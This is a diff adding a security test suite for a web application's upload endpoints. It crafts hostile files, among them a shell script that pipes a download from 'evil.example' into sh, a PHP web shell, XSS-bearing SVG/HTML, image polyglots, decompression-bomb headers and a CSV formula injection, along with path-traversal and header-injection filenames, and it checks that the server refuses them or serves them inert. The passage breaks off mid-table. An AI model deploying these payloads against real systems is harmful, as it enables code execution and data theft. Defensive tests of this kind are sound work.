@@ -1,0 +1,751 @@
+/**
+ * Security suite 11 (uploads). Crafted files go through the real routes (POST /api/uploads
+ * multipart, POST /api/uploads/img base64 JSON) as a signed-in member; every one is refused with
+ * the spec's status and message and leaves the R2 object count and the uploads rows unchanged.
+ * Hostile names may be accepted (the stored key never uses them): then the key is ours, the shown
+ * name is cleaned and the served Content-Disposition is safe. Every served file carries nosniff
+ * and a sandboxing CSP; anything but an image is a download.
+ *
+ * Policies decided here:
+ * - Images must be whole on both routes: nothing after PNG's IEND, JPEG's EOI or GIF's trailer,
+ *   and only well-formed GIF blocks, so script behind an image header is refused. A file that
+ *   IS a whole image and also parses as something else (a GIF whose width bytes open a JS
+ *   comment, a JPEG comment segment holding HTML, a PDF holding HTML) cannot be told apart by
+ *   structure: it is accepted and served inert — its stored type, nosniff, a sandbox CSP, and
+ *   anything that is not an image as an attachment. Those are counted apart below.
+ * - Pixel limits: no side over 20000 px and at most 50 megapixels, every frame and icon entry.
+ * - A .txt holding a shell script or HTML is plain text by design (served as text/plain,
+ *   attachment, nosniff), so scripts are tried under image and .sh names.
+ * - "Private files only to those who may read them": every upload kind today is public by design
+ *   (event images, avatars, site branding, editor images, resources); no private kind exists yet,
+ *   so there is no private-file case to test.
+ */
+import { env, exports } from 'cloudflare:workers'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import type { UploadResource } from '../../../worker/uploads/uploads.schemas'
+import { signedInAs } from '../../helpers/factories'
+import { call, ORIGIN, type Session } from '../../helpers/http'
+import { reportFigure } from './support/figure'
+
+const UNSUPPORTED = 'Unsupported file type'
+const NOT_CONVERTIBLE = "Image couldn't be converted to the correct format"
+const MIB = 1024 * 1024
+
+// ---- Files, built byte by byte ----------------------------------------------------------------
+
+const fromBase64 = (b64: string) => Uint8Array.from(atob(b64), (c) => c.charCodeAt(0))
+const bytesOf = (text: string) => new TextEncoder().encode(text)
+const concat = (...parts: (Uint8Array | string | number[])[]) => {
+  const arrays = parts.map((p) =>
+    typeof p === 'string' ? bytesOf(p) : p instanceof Uint8Array ? p : new Uint8Array(p),
+  )
+  const out = new Uint8Array(arrays.reduce((n, a) => n + a.length, 0))
+  let at = 0
+  for (const a of arrays) {
+    out.set(a, at)
+    at += a.length
+  }
+  return out
+}
+const base64 = (bytes: Uint8Array) => {
+  let binary = ''
+  for (let i = 0; i < bytes.length; i += 0x8000)
+    binary += String.fromCharCode(...bytes.subarray(i, i + 0x8000))
+  return btoa(binary)
+}
+
+/** Real 1×1 images: a PNG, a GIF and a minimal baseline JPEG. */
+const PNG = fromBase64(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
+)
+const GIF = fromBase64('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==')
+const JPEG = new Uint8Array([
+  0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01,
+  0x00, 0x01, 0x00, 0x00, 0xff, 0xc0, 0x00, 0x0b, 0x08, 0x00, 0x01, 0x00, 0x01, 0x01, 0x01, 0x11,
+  0x00, 0xff, 0xda, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3f, 0x00, 0xd2, 0xcf, 0x20, 0xff, 0xd9,
+])
+
+/** The 1×1 PNG with its IHDR claiming width × height (the header is all a decoder sizes from). */
+const pngClaiming = (width: number, height: number) => {
+  const out = PNG.slice()
+  new DataView(out.buffer).setUint32(16, width)
+  new DataView(out.buffer).setUint32(20, height)
+  return out
+}
+/** The 1×1 GIF with its logical screen (and optionally its one frame) claiming a size. */
+const gifClaiming = (width: number, height: number, where: 'screen' | 'frame') => {
+  const out = GIF.slice()
+  const at = where === 'screen' ? 6 : 32 // the image descriptor starts at 27 (0x2C), size at +5
+  new DataView(out.buffer).setUint16(at, width, true)
+  new DataView(out.buffer).setUint16(at + 2, height, true)
+  return out
+}
+/** The 1×1 JPEG with its SOF0 frame header claiming a size. */
+const jpegClaiming = (width: number, height: number) => {
+  const out = JPEG.slice()
+  new DataView(out.buffer).setUint16(25, height)
+  new DataView(out.buffer).setUint16(27, width)
+  return out
+}
+/** An icon file holding one image (how .ico files store modern icons). */
+const icoOf = (image: Uint8Array) => {
+  const head = new DataView(new ArrayBuffer(22))
+  head.setUint16(2, 1, true)
+  head.setUint16(4, 1, true)
+  head.setUint8(6, 1)
+  head.setUint8(7, 1)
+  head.setUint16(10, 1, true)
+  head.setUint16(12, 32, true)
+  head.setUint32(14, image.length, true)
+  head.setUint32(18, 22, true)
+  return concat(new Uint8Array(head.buffer), image)
+}
+/** An extended WebP (VP8X) declaring a canvas, followed by a tiny lossless frame. */
+const webpClaiming = (width: number, height: number) => {
+  const vp8x = new Uint8Array(10)
+  const w = width - 1
+  const h = height - 1
+  vp8x.set(
+    [w & 0xff, (w >> 8) & 0xff, (w >> 16) & 0xff, h & 0xff, (h >> 8) & 0xff, (h >> 16) & 0xff],
+    4,
+  )
+  const vp8l = new Uint8Array([0x2f, 0, 0, 0, 0, 0])
+  const chunks = concat('VP8X', [10, 0, 0, 0], vp8x, 'VP8L', [6, 0, 0, 0], vp8l)
+  const size = 4 + chunks.length
+  return concat('RIFF', [size & 0xff, (size >> 8) & 0xff, 0, 0], 'WEBP', chunks)
+}
+
+const EXE = concat(
+  [0x4d, 0x5a, 0x90, 0x00, 0x03, 0, 0, 0, 0x04, 0],
+  new Uint8Array(200),
+  'This program cannot be run in DOS mode.',
+)
+const ELF = concat([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0], new Uint8Array(120))
+const JAVA_CLASS = concat([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34], new Uint8Array(40))
+const SHELL = bytesOf('#!/bin/sh\ncurl -s http://evil.example/x | sh\n')
+const PHP = bytesOf('<?php system($_GET["c"]); ?>\n')
+const HTML = bytesOf(
+  '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
+)
+const SVG = bytesOf(
+  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
+)
+const SVG_PROLOG = bytesOf(
+  '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n' +
+    '<svg xmlns="http://www.w3.org/2000/svg"><script type="text/javascript">alert(1)</script></svg>',
+)
+/** A gzip stream header (svgz): magic 1f 8b, deflate, then compressed bytes. */
+const SVGZ = concat([0x1f, 0x8b, 0x08, 0x00, 0, 0, 0, 0, 0x00, 0x03], new Uint8Array(60).fill(0x5a))
+const ZIP = concat([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0], new Uint8Array(40), 'shell.php<?php ?>')
+const BMP = concat('BM', new Uint8Array(56))
+/** Script behind a GIF header: valid JS (GIF89a = alert(1)), not a valid GIF. */
+const GIF_JS = bytesOf('GIF89a/*\x00\x00\x00\x00*/=alert(document.domain)//;')
+/** A JPEG with a ZIP (holding PHP) appended after its EOI. */
+const JPEG_ZIP = concat(JPEG, ZIP, [0x50, 0x4b, 0x05, 0x06], new Uint8Array(18))
+const PNG_HTML = concat(PNG, '<html><script>alert(1)</script></html>')
+const GIF_HTML = concat(GIF, '<script>alert(1)</script>')
+/** HTML first, a PDF afterwards: the PDF magic is not at offset 0. */
+const HTML_PDF = bytesOf(
+  '<html><!--\n%PDF-1.4\n1 0 obj<<>>endobj\n--><script>alert(1)</script></html>\n%%EOF',
+)
+
+// Whole images (and a PDF) that also parse as something else: accepted, served inert.
+/** A whole GIF whose width bytes open a JS comment closed in a comment extension; ';' is the trailer. */
+const GIF_JS_VALID = concat(
+  'GIF89a/*',
+  [0x0a, 0x00, 0x00, 0x00, 0x00],
+  [0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00],
+  [0x21, 0xfe, 13],
+  '*/=alert(1)//',
+  [0x00, 0x3b],
+)
+const JPEG_COMMENT_HTML = (() => {
+  const html = bytesOf('<html><script>alert(1)</script></html>')
+  return concat([0xff, 0xd8, 0xff, 0xfe, 0, html.length + 2], html, JPEG.subarray(2))
+})()
+const PDF_HTML = bytesOf(
+  '%PDF-1.4\n1 0 obj<</Length 44>>stream\n<html><script>alert(1)</script></html>\nendstream endobj\n%%EOF\n',
+)
+
+// ---- Calls ------------------------------------------------------------------------------------
+
+type Result = {
+  status: number
+  body: { data?: UploadResource; message?: string; errors?: Record<string, string[]> }
+}
+
+const send = async (
+  init: RequestInit & { headers: Record<string, string> },
+  path: string,
+): Promise<Result> => {
+  const response = await exports.default.fetch(`${ORIGIN}${path}`, { method: 'POST', ...init })
+  const text = await response.text()
+  return { status: response.status, body: text ? (JSON.parse(text) as Result['body']) : {} }
+}
+const postFile = (
+  session: Session,
+  bytes: Uint8Array,
+  name: string,
+  type = 'application/octet-stream',
+) => {
+  const form = new FormData()
+  form.set('file', new File([new Uint8Array(bytes)], name, { type }))
+  form.set('kind', 'event')
+  return call('/api/uploads', { form, session }) as Promise<Result>
+}
+const postImage = (session: Session, json: Record<string, unknown>) =>
+  call('/api/uploads/img', { json, session }) as Promise<Result>
+
+/** A body streamed in 64 KiB chunks with no Content-Length (Transfer-Encoding: chunked). */
+const chunked = (parts: (() => Uint8Array)[], total: number) => {
+  let sent = 0
+  let index = 0
+  return new ReadableStream<Uint8Array>({
+    pull(controller) {
+      if (index < parts.length) {
+        const part = parts[index++]!()
+        sent += part.length
+        controller.enqueue(part)
+      } else if (sent >= total) controller.close()
+      else {
+        const n = Math.min(64 * 1024, total - sent)
+        sent += n
+        controller.enqueue(new Uint8Array(n).fill(0x41))
+      }
+    },
+  })
+}
+
+let member: Session
+let admin: Session
+
+const objectKeys = async () => {
+  const keys: string[] = []
+  let cursor: string | undefined
+  do {
+    const page = await env.UPLOADS.list({ cursor, limit: 1000 })
+    keys.push(...page.objects.map((o) => o.key))
+    cursor = page.truncated ? page.cursor : undefined
+  } while (cursor)
+  return keys
+}
+const uploadRows = async () =>
+  (await env.DB.prepare('SELECT count(*) AS n FROM uploads').first<{ n: number }>())!.n
+const storeState = async () => ({ objects: (await objectKeys()).length, rows: await uploadRows() })
+
+const setLimits = async (json: { maxUploadSize: number; maxImageUploadSize: number }) => {
+  expect((await call('/api/settings', { method: 'PUT', session: admin, json })).status).toBe(200)
+}
+
+// ---- Figures ----------------------------------------------------------------------------------
+
+let crafted = 0
+let refused = 0
+let accepted = 0
+let storeChanged = 0
+let names = 0
+let inert = 0
+let servedChecks = 0
+
+reportFigure(
+  'uploads (suite 11)',
+  () =>
+    `${crafted} crafted files, ${refused} refused, ${accepted} accepted, R2 objects ${storeChanged === 0 ? 'unchanged' : `CHANGED ${storeChanged}×`}; ` +
+    `${names} hostile names accepted with our key, a cleaned name and a safe Content-Disposition; ` +
+    `${inert} whole-file polyglots accepted and served inert; ${servedChecks} served-file checks`,
+)
+
+beforeAll(async () => {
+  member = (await signedInAs('member')).session
+  admin = (await signedInAs('admin')).session
+})
+
+type Crafted = {
+  name: string
+  send: () => Promise<Result>
+  status: 413 | 422
+  /** The field and message of a 422. */
+  error?: [field: 'file' | 'data', message: string]
+}
+
+const viaFile = (
+  name: string,
+  bytes: Uint8Array,
+  filename: string,
+  message: string,
+  type?: string,
+): Crafted => ({
+  name: `${name} (multipart "${filename}")`,
+  send: () => postFile(member, bytes, filename, type),
+  status: 422,
+  error: ['file', message],
+})
+const viaImg = (name: string, data: string, message: string): Crafted => ({
+  name: `${name} (base64 JSON)`,
+  send: () => postImage(member, { data, path: 'event', filename: 'photo.png' }),
+  status: 422,
+  error: ['data', message],
+})
+
+/** Sends one crafted file and says how it was answered and whether R2 or D1 changed. */
+const attempt = async (c: Crafted) => {
+  crafted += 1
+  const before = await storeState()
+  const res = await c.send()
+  const after = await storeState()
+  if (res.status < 300) accepted += 1
+  const unchanged = after.objects === before.objects && after.rows === before.rows
+  if (!unchanged) storeChanged += 1
+  const [field, message] = c.error ?? ['message', 'Request was too large']
+  return {
+    outcome: {
+      status: res.status,
+      error: field === 'message' ? res.body.message : res.body.errors?.[field],
+      store: unchanged
+        ? 'unchanged'
+        : `R2 ${before.objects}→${after.objects}, rows ${before.rows}→${after.rows}`,
+    },
+    expected: {
+      status: c.status,
+      error: field === 'message' ? message : [message],
+      store: 'unchanged',
+    },
+  }
+}
+
+const CRAFTED: Crafted[] = [
+  // Extension against magic bytes.
+  viaFile('a Windows executable', EXE, 'holiday.png', UNSUPPORTED, 'image/png'),
+  viaFile('a Windows executable', EXE, 'holiday.jpg', UNSUPPORTED, 'image/jpeg'),
+  viaFile('a Windows executable', EXE, 'minutes.pdf', UNSUPPORTED, 'application/pdf'),
+  viaFile('a Windows executable', EXE, 'setup.exe', UNSUPPORTED),
+  viaFile('an ELF binary', ELF, 'avatar.png', UNSUPPORTED),
+  viaFile('an ELF binary (NUL bytes are not text)', ELF, 'readme.txt', UNSUPPORTED, 'text/plain'),
+  viaFile('a Java class', JAVA_CLASS, 'photo.gif', UNSUPPORTED),
+  viaFile('a shell script', SHELL, 'banner.png', UNSUPPORTED),
+  viaFile('a shell script', SHELL, 'install.sh', UNSUPPORTED),
+  viaFile('a PHP script', PHP, 'shell.php.jpg', UNSUPPORTED, 'image/jpeg'),
+  viaFile('an HTML page', HTML, 'photo.jpg', UNSUPPORTED, 'image/jpeg'),
+  viaFile('an HTML page', HTML, 'index.html', UNSUPPORTED, 'text/html'),
+  viaFile('an SVG with script', SVG, 'drawing.svg', UNSUPPORTED, 'image/svg+xml'),
+  viaFile('an SVG with script', SVG, 'drawing.png', UNSUPPORTED, 'image/png'),
+  viaFile('an SVG with an XML prolog and DOCTYPE', SVG_PROLOG, 'logo.svg', UNSUPPORTED),
+  viaFile('a gzip-compressed SVG', SVGZ, 'logo.svgz', UNSUPPORTED),
+  viaFile('a gzip-compressed SVG', SVGZ, 'logo.png', UNSUPPORTED),
+  viaFile('a zip archive', ZIP, 'photos.png', UNSUPPORTED),
+  viaFile('a bitmap', BMP, 'scan.bmp', UNSUPPORTED),
+  viaImg('an executable', base64(EXE), UNSUPPORTED),
+  viaImg(
+    'an HTML page in a data: URL claiming image/png',
+    `data:image/png;base64,${base64(HTML)}`,
+    UNSUPPORTED,
+  ),
+  viaImg('an SVG with script', `data:image/svg+xml;base64,${base64(SVG)}`, UNSUPPORTED),
+  viaImg('a WebP (not an image type this route takes)', base64(webpClaiming(1, 1)), UNSUPPORTED),
+  // Polyglots that are not whole images.
+  viaFile('script behind a GIF header', GIF_JS, 'pixel.gif', NOT_CONVERTIBLE),
+  viaImg('script behind a GIF header', base64(GIF_JS), NOT_CONVERTIBLE),
+  viaFile('a JPEG with a ZIP (PHP) appended', JPEG_ZIP, 'photo.jpg', NOT_CONVERTIBLE),
+  viaImg('a JPEG with a ZIP (PHP) appended', base64(JPEG_ZIP), NOT_CONVERTIBLE),
+  viaFile('a PNG with HTML after IEND', PNG_HTML, 'dot.png', NOT_CONVERTIBLE),
+  viaImg('a PNG with HTML after IEND', base64(PNG_HTML), NOT_CONVERTIBLE),
+  viaFile('a GIF with script after its trailer', GIF_HTML, 'dot.gif', NOT_CONVERTIBLE),
+  viaFile('an HTML page with a PDF inside', HTML_PDF, 'minutes.pdf', UNSUPPORTED),
+  // Empty, one byte, truncated.
+  viaFile('zero bytes', new Uint8Array(0), 'empty.png', UNSUPPORTED),
+  viaFile('zero bytes', new Uint8Array(0), 'empty.txt', UNSUPPORTED),
+  viaImg('an empty data: URL', 'data:image/png;base64,', NOT_CONVERTIBLE),
+  viaImg('an empty string', '', NOT_CONVERTIBLE),
+  viaFile('one byte', new Uint8Array([0x89]), 'dot.png', UNSUPPORTED),
+  viaImg('one byte', base64(new Uint8Array([0xff])), UNSUPPORTED),
+  viaFile('a PNG cut inside IHDR', PNG.subarray(0, 20), 'dot.png', NOT_CONVERTIBLE),
+  viaImg('a PNG cut inside IHDR', base64(PNG.subarray(0, 20)), NOT_CONVERTIBLE),
+  viaFile('a JPEG cut after its JFIF header', JPEG.subarray(0, 20), 'photo.jpg', NOT_CONVERTIBLE),
+  viaImg('a JPEG cut after its JFIF header', base64(JPEG.subarray(0, 20)), NOT_CONVERTIBLE),
+  viaFile('a GIF cut in its screen descriptor', GIF.subarray(0, 9), 'dot.gif', NOT_CONVERTIBLE),
+  viaImg('a GIF cut before its trailer', base64(GIF.subarray(0, GIF.length - 1)), NOT_CONVERTIBLE),
+  viaImg(
+    'an icon whose entry points past the end',
+    base64(icoOf(PNG).subarray(0, 30)),
+    NOT_CONVERTIBLE,
+  ),
+  // Huge pixel dimensions in a small file (decompression bombs).
+  viaFile(
+    'a PNG claiming 100000×100000 px',
+    pngClaiming(100_000, 100_000),
+    'bomb.png',
+    NOT_CONVERTIBLE,
+  ),
+  viaImg('a PNG claiming 100000×100000 px', base64(pngClaiming(100_000, 100_000)), NOT_CONVERTIBLE),
+  viaImg('a PNG claiming 20001×1 px', base64(pngClaiming(20_001, 1)), NOT_CONVERTIBLE),
+  viaFile(
+    'a PNG claiming 8000×8000 px (64 MP)',
+    pngClaiming(8000, 8000),
+    'big.png',
+    NOT_CONVERTIBLE,
+  ),
+  viaImg(
+    'a GIF screen claiming 65535×65535 px',
+    base64(gifClaiming(65_535, 65_535, 'screen')),
+    NOT_CONVERTIBLE,
+  ),
+  viaFile(
+    'a GIF frame claiming 65535×65535 px',
+    gifClaiming(65_535, 65_535, 'frame'),
+    'bomb.gif',
+    NOT_CONVERTIBLE,
+  ),
+  viaImg('a JPEG claiming 65535×65535 px', base64(jpegClaiming(65_535, 65_535)), NOT_CONVERTIBLE),
+  viaFile('a JPEG claiming 60000×800 px', jpegClaiming(60_000, 800), 'wide.jpg', NOT_CONVERTIBLE),
+  viaImg(
+    'an icon holding a PNG claiming 100000×100000 px',
+    base64(icoOf(pngClaiming(100_000, 100_000))),
+    NOT_CONVERTIBLE,
+  ),
+  viaFile(
+    'a WebP canvas claiming 100000×100000 px',
+    webpClaiming(100_000, 100_000),
+    'bomb.webp',
+    NOT_CONVERTIBLE,
+  ),
+  viaImg('a PNG claiming 0×0 px', base64(pngClaiming(0, 0)), NOT_CONVERTIBLE),
+  // Over the 12 MiB JSON limit of the image route, declared or streamed.
+  {
+    name: 'a 13 MiB JSON body with its Content-Length',
+    send: () =>
+      send(
+        {
+          headers: { origin: ORIGIN, cookie: member.cookie!, 'content-type': 'application/json' },
+          body: JSON.stringify({ data: 'A'.repeat(13 * MIB), path: 'event' }),
+        },
+        '/api/uploads/img',
+      ),
+    status: 413,
+  },
+  {
+    name: 'a 13 MiB chunked JSON body without a Content-Length',
+    send: () =>
+      send(
+        {
+          headers: { origin: ORIGIN, cookie: member.cookie!, 'content-type': 'application/json' },
+          body: chunked(
+            [() => bytesOf('{"path":"event","data":"data:image/png;base64,')],
+            13 * MIB,
+          ),
+        },
+        '/api/uploads/img',
+      ),
+    status: 413,
+  },
+]
+
+describe('crafted files are refused and store nothing', () => {
+  it('the corpus holds at least 30 crafted files', () => {
+    expect(CRAFTED.length).toBeGreaterThanOrEqual(30)
+  })
+
+  it.each(CRAFTED)(
+    'refuses $name',
+    async (c) => {
+      const { outcome, expected } = await attempt(c)
+      expect(outcome, c.name).toEqual(expected)
+      refused += 1
+    },
+    30_000,
+  )
+})
+
+describe('files over the size limits set in the settings', () => {
+  // 0.5 MiB each for these tests, then back to the spec defaults.
+  beforeAll(() => setLimits({ maxUploadSize: MIB / 2, maxImageUploadSize: MIB / 2 }))
+  afterAll(() => setLimits({ maxUploadSize: 536_870_912, maxImageUploadSize: 2_097_152 }))
+
+  /** A whole PNG of `size` bytes: the 1×1 image padded with a private ancillary chunk. */
+  const pngOfSize = (size: number) => {
+    const iend = PNG.length - 12
+    const padding = size - PNG.length - 12
+    const chunk = new Uint8Array(12 + padding)
+    new DataView(chunk.buffer).setUint32(0, padding)
+    chunk.set(bytesOf('prVt'), 4)
+    return concat(PNG.subarray(0, iend), chunk, PNG.subarray(iend))
+  }
+  const boundary = 'guildhall-test-boundary'
+  const multipartHead = (name: string) =>
+    bytesOf(
+      `--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\nevent\r\n` +
+        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: text/plain\r\n\r\n`,
+    )
+
+  const OVERSIZE: Crafted[] = [
+    viaFile(
+      'a text file one byte over maxUploadSize',
+      new Uint8Array(MIB / 2 + 1).fill(0x61),
+      'notes.txt',
+      'Maximum filesize is 0.5Mb',
+    ),
+    viaFile('a PNG over maxUploadSize', pngOfSize(MIB), 'poster.png', 'Maximum filesize is 0.5Mb'),
+    viaImg(
+      'a PNG one byte over maxImageUploadSize',
+      base64(pngOfSize(MIB / 2 + 1)),
+      'Maximum filesize is 0.5Mb',
+    ),
+    {
+      name: 'a chunked multipart body over maxUploadSize',
+      send: () => {
+        const tail = bytesOf(`\r\n--${boundary}--\r\n`)
+        const head = multipartHead('streamed.txt')
+        const fill = MIB - head.length - tail.length
+        const body = chunked(
+          [() => head, () => new Uint8Array(fill).fill(0x61), () => tail],
+          head.length + fill + tail.length,
+        )
+        return send(
+          {
+            headers: {
+              origin: ORIGIN,
+              cookie: member.cookie!,
+              'content-type': `multipart/form-data; boundary=${boundary}`,
+            },
+            body,
+          },
+          '/api/uploads',
+        )
+      },
+      status: 422,
+      error: ['file', 'Maximum filesize is 0.5Mb'],
+    },
+  ]
+
+  it.each(OVERSIZE)(
+    'refuses $name',
+    async (c) => {
+      const { outcome, expected } = await attempt(c)
+      expect(outcome, c.name).toEqual(expected)
+      refused += 1
+    },
+    30_000,
+  )
+
+  it('still takes a file exactly at the limit', async () => {
+    expect(
+      (await postImage(member, { data: base64(pngOfSize(MIB / 2)), path: 'event' })).status,
+    ).toBe(201)
+    expect((await postFile(member, new Uint8Array(MIB / 2).fill(0x61), 'fits.txt')).status).toBe(
+      201,
+    )
+  })
+})
+
+describe('large but sane images are still taken', () => {
+  it.each([
+    [
+      'a PNG of 20000×2500 px (50 MP, the limit)',
+      () => postFile(member, pngClaiming(20_000, 2500), 'panorama.png'),
+    ],
+    [
+      'a JPEG of 8000×6000 px (48 MP)',
+      () => postImage(member, { data: base64(jpegClaiming(8000, 6000)), path: 'event' }),
+    ],
+    [
+      'a GIF of 4000×3000 px',
+      () => postImage(member, { data: base64(gifClaiming(4000, 3000, 'screen')), path: 'event' }),
+    ],
+  ])('accepts %s', async (_name, post) => {
+    expect((await post()).status).toBe(201)
+  })
+})
+
+describe('hostile names: the stored key is ours, the name is cleaned, the download header is safe', () => {
+  const KEY =
+    /^images\/event\/\d{4}\/\d{2}\/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\.png$/
+  // Control characters, bidi controls, path separators, lone surrogates.
+  const UNSAFE = /[\p{Cc}\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069/\\]/u
+  const LONE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/
+  /** inline; filename="printable ASCII without quote or backslash"[; filename*=UTF-8''percent-encoded] */
+  const SAFE_DISPOSITION =
+    /^inline; filename="[\x20\x21\x23-\x5b\x5d-\x7e]*"(; filename\*=UTF-8''[A-Za-z0-9\-_.!~%]+)?$/
+
+  /** What is tried, the name sent, and the name shown when it arrives exactly (the JSON route). */
+  const NAMES: [string, string, string][] = [
+    ['parent directories', '../../../etc/passwd.png', '.._.._.._etc_passwd.png'],
+    [
+      'Windows parent directories',
+      '..\\..\\Windows\\System32\\evil.png',
+      '.._.._Windows_System32_evil.png',
+    ],
+    ['an absolute path', '/var/www/html/index.png', '_var_www_html_index.png'],
+    ['a drive path', 'C:\\inetpub\\wwwroot\\shell.png', 'C:_inetpub_wwwroot_shell.png'],
+    ['a NUL byte', 'avatar.png\u0000.html', 'avatar.png.html'],
+    [
+      'CR LF and a header',
+      'dot\r\nSet-Cookie: session=stolen\r\n.png',
+      'dotSet-Cookie: session=stolen.png',
+    ],
+    ['a right-to-left override', 'invoice\u202Egnp.exe', 'invoicegnp.exe'],
+    ['bidi isolates and marks', '\u2067photo\u2069\u200F.png', 'photo.png'],
+    ['DEL and C1 controls', 'a\u007f\u0085\u009bb.png', 'ab.png'],
+    ['300 characters', `${'a'.repeat(296)}.png`, `${'a'.repeat(196)}.png`],
+    ['300 emoji (surrogate pairs)', `${'🎉'.repeat(296)}.png`, `${'🎉'.repeat(196)}.png`],
+    ['a lone surrogate', 'x\ud800y.png', 'xy.png'],
+    ['one dot', '.', 'upload.png'],
+    ['two dots', '..', 'upload.png'],
+    ['dots and spaces', ' . .. . ', 'upload.png'],
+    ['quotes and a fake parameter', 'a"; filename="evil.html', 'a"; filename="evil.html'],
+    ['a backslash-escaped quote', 'a\\"b.png', 'a_"b.png'],
+    ['percent-encoded traversal', '..%2F..%2Fetc%2Fpasswd.png', '..%2F..%2Fetc%2Fpasswd.png'],
+    ['non-ASCII letters', 'Résumé — café ñ 日本.png', 'Résumé — café ñ 日本.png'],
+  ]
+
+  const check = async (res: Result, sentName: string) => {
+    expect(res.status, JSON.stringify(res.body)).toBe(201)
+    const upload = res.body.data!
+    expect(upload.path).toMatch(KEY)
+    expect(await env.UPLOADS.head(upload.path)).not.toBeNull()
+    const shown = upload.client_filename
+    expect(shown).not.toMatch(UNSAFE)
+    expect(shown).not.toMatch(LONE)
+    expect(Array.from(shown).length).toBeLessThanOrEqual(200)
+    expect(shown).not.toMatch(/^[.\s]*$/)
+    expect(shown.length).toBeGreaterThan(0)
+    if (/^[.\s]*$/.test(sentName)) expect(shown).toBe('upload.png')
+    const file = await exports.default.fetch(`${ORIGIN}${upload.src}`)
+    expect(file.status).toBe(200)
+    expect(file.headers.get('content-type')).toBe('image/png')
+    expect(file.headers.get('x-content-type-options')).toBe('nosniff')
+    const disposition = file.headers.get('content-disposition')!
+    expect(disposition).toMatch(SAFE_DISPOSITION)
+    const encoded = /filename\*=UTF-8''(.+)$/.exec(disposition)?.[1]
+    // The full name comes back exactly, from filename* or (all ASCII) from filename.
+    expect(encoded ? decodeURIComponent(encoded) : /filename="(.*)"/.exec(disposition)![1]).toBe(
+      shown,
+    )
+    names += 1
+    return upload
+  }
+
+  // The multipart parser refuses a raw CR, LF or NUL inside filename="…" (browsers percent-encode
+  // them): a 400 that stores nothing. The exact bytes reach the service through the JSON route.
+  const RAW_CONTROL = /[\r\n\0]/
+
+  it.each(NAMES.filter(([, name]) => RAW_CONTROL.test(name)))(
+    'refuses a multipart name with %s, storing nothing',
+    async (_what, name) => {
+      const before = await storeState()
+      const res = await postFile(member, PNG, name, 'image/png')
+      expect(res.status).toBe(400)
+      expect(await storeState()).toEqual(before)
+    },
+  )
+
+  it.each(NAMES.filter(([, name]) => !RAW_CONTROL.test(name)))(
+    'names with %s (multipart)',
+    async (_what, name) => {
+      const before = await objectKeys()
+      const res = await postFile(member, PNG, name, 'image/png')
+      const upload = await check(res, name)
+      expect((await objectKeys()).filter((k) => !before.includes(k))).toEqual([upload.path])
+    },
+  )
+
+  it.each(NAMES.filter(([, name]) => name.length <= 200))(
+    'names with %s (base64 JSON, sent exactly)',
+    async (_what, name, shown) => {
+      const res = await postImage(member, { data: base64(PNG), path: 'event', filename: name })
+      expect((await check(res, name)).client_filename).toBe(shown)
+    },
+  )
+
+  it('keeps the end of a long name, where its extension is', async () => {
+    const res = await postFile(member, PNG, `${'b'.repeat(400)}.png`, 'image/png')
+    expect(res.body.data!.client_filename).toBe(`${'b'.repeat(196)}.png`)
+  })
+})
+
+describe('serving', () => {
+  const fetchFile = (src: string, headers: Record<string, string> = {}) =>
+    exports.default.fetch(`${ORIGIN}${src}`, { headers })
+  const served = (res: Response) => ({
+    type: res.headers.get('content-type'),
+    nosniff: res.headers.get('x-content-type-options'),
+    disposition: (res.headers.get('content-disposition') ?? '').split(';')[0],
+    sandboxed: (res.headers.get('content-security-policy') ?? '').split(/;\s*/).includes('sandbox'),
+  })
+
+  it.each([
+    ['notes.txt', bytesOf('<html><script>alert(1)</script>'), 'text/plain'],
+    ['table.csv', bytesOf("=cmd|' /C calc'!A0,b\n"), 'text/csv'],
+    ['minutes.pdf', bytesOf('%PDF-1.7\n%%EOF\n'), 'application/pdf'],
+    ['song.mp3', concat('ID3', [4, 0, 0, 0, 0, 0, 0]), 'audio/mpeg'],
+    ['clip.mp4', concat([0, 0, 0, 0x18], 'ftypisom', [0, 0, 2, 0], 'isomiso2'), 'video/mp4'],
+    ['report.docx', ZIP, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
+  ])(
+    'serves %s as a download of its stored type with nosniff and a sandbox',
+    async (name, bytes, type) => {
+      const upload = (await postFile(member, bytes, name)).body.data!
+      const res = await fetchFile(upload.src)
+      expect(res.status).toBe(200)
+      expect(served(res)).toEqual({
+        type,
+        nosniff: 'nosniff',
+        disposition: 'attachment',
+        sandboxed: true,
+      })
+      servedChecks += 1
+    },
+  )
+
+  it.each([
+    [
+      'a whole GIF whose width bytes open a JS comment',
+      'image/gif',
+      'inline',
+      'pixel.gif',
+      GIF_JS_VALID,
+    ],
+    [
+      'a JPEG whose comment segment holds HTML',
+      'image/jpeg',
+      'inline',
+      'photo.jpg',
+      JPEG_COMMENT_HTML,
+    ],
+    ['a PDF holding an HTML page', 'application/pdf', 'attachment', 'minutes.pdf', PDF_HTML],
